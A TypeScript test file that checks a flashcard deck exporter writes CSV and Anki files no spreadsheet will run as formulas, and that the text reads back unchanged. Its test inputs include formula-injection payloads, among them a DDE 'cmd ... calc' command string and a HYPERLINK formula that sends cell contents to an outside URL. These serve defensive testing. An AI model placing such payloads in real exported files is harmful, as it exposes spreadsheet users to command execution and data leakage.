import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { deckOf } from '../../../src/decks/deck-file.ts';
import { asMeant, harmless } from '../../../src/decks/formats/formulas.ts';
import { loadDecks, writeDeck } from '../../../src/decks/index.ts';
import type { DeckFile } from '../../../src/decks/schema.ts';
import { propertyRuns } from '../../property-runs.ts';

/** What Excel, LibreOffice and Google Sheets take for a formula, or drop in front of one. */
const RUNS = /^[=+\-@\t\r\n＝＋－＠]/;
const deckWith = (prompt: string, answer: string) =>
  deckOf({
    id: 'any',
    title: 'Any',
    description: 'Any.',
    cards: [{ id: 'one', kind: 'recall', topic: 'x', difficulty: 1, prompt, answer }],
  } as DeckFile);

test.each([
  '=HYPERLINK("https://example.com?"&A1,"look")',
  '=1+1',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '＝1+1',
  "'=1",
  "''=1",
  "'quoted'",
  '-5',
  '-',
])('%j is exported so that no spreadsheet runs it, and comes back as it was', (text) => {
  const deck = deckWith(text, `${text}.`);
  for (const format of ['csv', 'anki'] as const) {
    const file = writeDeck(deck, format);
    const rows: readonly (readonly string[])[] = parse(file.replace(/^#.*\n/gm, ''), {
      delimiter: format === 'csv' ? ',' : '\t',
    });
    const run = rows.flat().filter((cell) => RUNS.test(cell) && !/^[-+]?\d+$/.test(cell));
    expect(run).toEqual([]);
    const name = format === 'csv' ? 'any.csv' : 'any.txt';
    const [again] = loadDecks([{ name, text: file }]).decks;
    expect(again?.cards[0]?.prompt).toBe(text);
    expect(again?.cards[0]?.answer).toBe(`${text}.`);
  }
});

test('whatever a cell holds, it is harmless and read back the same', () => {
  const cell = fc.string({
    unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', 'a', '1', '.', '＝', ' '),
  });
  fc.assert(
    fc.property(cell, (text) => {
      const written = harmless(text);
      expect(RUNS.test(written) && !/^[-+]?\d+(\.\d+)?$/.test(written)).toBe(false);
      expect(asMeant(written)).toBe(text);
    }),
    { numRuns: propertyRuns(2000) },
  );
});

test('a cell cannot fall apart into a formula where another separator is usual', () => {
  expect(writeDeck(deckWith('a;=1+1', 'b\t=2'), 'csv')).toContain('"a;=1+1"');
});
